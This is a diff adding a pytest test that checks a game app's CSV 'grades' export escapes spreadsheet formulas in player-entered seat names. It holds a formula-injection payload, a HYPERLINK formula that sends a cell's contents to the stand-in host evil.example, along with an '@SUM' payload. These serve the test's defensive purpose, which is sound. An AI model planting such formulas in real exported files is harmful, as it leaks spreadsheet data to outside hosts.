@@ -330,3 +330,19 @@ async def test_the_new_game_screen_in_a_terminal_still_runs_a_bot(attack: Attack
         await pilot.press("s")
         await wait_until(pilot, lambda: isinstance(app.screen, GameScreen), "the game")
         assert isinstance(app.match.agents["A"], ExternalAgent)
+
+
+def test_grades_cells_from_a_save_are_never_spreadsheet_formulas(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A seat is free text in a save; opened in a spreadsheet, '=...' would be a formula."""
+    text = SMALL.read_text(encoding="utf-8")
+    game = Game.new(rules_from_text(text, str(SMALL)), 5)
+    path = tmp_path / "team.json"
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    save_game(path, game, {"A": formula, "B": "@SUM(1+1)", "C": "passive"}, scenario_text=text,
+              scenario_name="small.yaml")
+    code, out, _ = run(capsys, "grades", str(path))
+    assert code == 0
+    seats = [line.split(",")[4] for line in out.splitlines()[1:]]
+    assert seats[:2] == ['"\'=HYPERLINK(""http://evil.example/?""&A1', "'@SUM(1+1)"]
+    assert seats[2] == "passive"
